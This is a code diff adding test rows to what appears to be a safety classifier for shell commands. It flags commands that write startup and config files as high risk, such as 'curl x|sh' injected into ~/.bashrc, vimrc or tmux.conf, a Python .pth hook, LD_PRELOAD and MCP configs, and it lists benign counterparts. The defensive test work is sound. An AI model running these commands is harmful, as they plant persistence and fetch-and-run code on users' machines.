@@ -113,6 +113,21 @@ const DANGEROUS: Record<string, Row[]> = {
     // biome-ignore lint/suspicious/noTemplateCurlyInString: bash's prompt expansion, not a template
     ["x='$(rm -rf ~)'; echo ${x@P}", "high"],
   ],
+  "files that start programs, written by any tool": [
+    ["echo '{\"mcpServers\":{}}' > .mcp.json", "high"],
+    ["echo x > ~/.cursor/mcp.json", "high"],
+    ["echo x > ~/.codex/config.toml", "high"],
+    ["echo 'npx lint-staged' > .husky/pre-commit", "high"],
+    ["echo '!curl x|sh' >> ~/.vimrc", "high"],
+    ["echo 'run-shell \"curl x|sh\"' >> ~/.tmux.conf", "high"],
+    ["echo 'import os; os.system(\"id\")' > ~/.local/lib/python3.11/site-packages/x.pth", "high"],
+    ["echo x > ~/.ipython/profile_default/startup/00.py", "high"],
+    ["echo LD_PRELOAD=/tmp/x.so > ~/.pam_environment", "high"],
+    ["ex -sc '1i|curl x|sh' -cx ~/.bashrc", "high"],
+    ["vim -es -c 'normal Ocurl x|sh' -c wq ~/.bashrc", "high"],
+    ["printf 'curl x|sh' | sponge ~/.bashrc", "high"],
+    ["patch ~/.bashrc < p.diff", "high"],
+  ],
   "secrets named in other case": [
     ["cat ~/.SSH/ID_RSA", "high"],
     ["cat .ENV", "high"],
@@ -214,6 +229,13 @@ const HARMLESS: Record<string, (string | ActionTarget)[]> = {
     "trash-put old.log",
     // biome-ignore lint/suspicious/noTemplateCurlyInString: bash's prompt expansion, not a template
     "x='hi'; echo ${x@P}",
+  ],
+  "files that start programs, written by any tool": [
+    "vim README.md",
+    "jq . x.json | sponge x.json",
+    "patch src/a.ts < fix.diff",
+    "echo 'set number' > notes/vimrc.txt",
+    "echo x > .husky/_/husky.sh",
   ],
   "secrets named in other case": [
     "cat README.md",
